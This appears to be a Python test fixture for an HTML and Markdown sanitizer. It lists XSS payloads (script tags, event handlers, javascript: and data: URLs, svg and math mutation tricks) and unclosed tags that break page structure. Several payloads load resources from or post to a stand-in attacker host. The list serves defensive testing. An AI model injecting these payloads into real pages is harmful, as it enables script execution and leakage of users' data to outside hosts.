"""What somebody could write into a notebook or a reading, so that a page of it does something."""

from __future__ import annotations

HOSTILE = [
    "<script>alert(1)</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png' srcset='https://evil.example/2.png 2x'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>a link</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>a link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a link</a>",
    "<a href='/api/secret' ping='https://evil.example'>a link</a>",
    "<a id=failed name=failed tabindex=1 autofocus>a link</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a><use href='https://evil.example/x.svg#a'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example/x.swf'></object><embed src='https://evil.example/x.swf'>",
    "<base href='https://evil.example/'><link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>header { display: none } @import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;background:url(https://evil.example/x)'>x</div>",
    "<form action='https://evil.example/'><input name=a autofocus onfocus=alert(1)><button>OK</button></form>",
    "<body onload=alert(1)><details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video autoplay onplay=alert(1)><source src='https://evil.example/x.mp4' onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template><custom-element onclick=alert(1)>x</custom-element>",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<p/onclick=alert(1)//>x",
]
"""HTML with something that acts: scripts, forms, addresses that a browser asks by itself, what covers the page."""
OF_MARKDOWN = [
    "[a link](javascript:alert(1))",
    "[a link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![an image](https://evil.example/pixel.png)",
    "<javascript:alert(1)>",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "```<img/src=x/onerror=alert(1)>\ncode\n```",
    "$$<img src=x onerror=alert(1)>$$",
    "`<script>alert(1)</script>`",
]
"""Markdown with the same."""
UNENDED = [
    "<!--",
    "<![CDATA[",
    "<script>",
    "<style>",
    "<textarea>",
    "<title>",
    "<xmp>",
    "<plaintext>",
    "<iframe>",
    "<noscript>",
    "<svg><style>",
    "<math><annotation-xml encoding='text/html'>",
    "<table><tr><td>",
    "<select><option>",
    "<b><i><a href='https://example.org'>",
    "<div><div><div>",
    "</div></div></div></main></body></html>",
    "<a title='",
]
"""HTML that swallows what comes after it, or ends what is around it."""
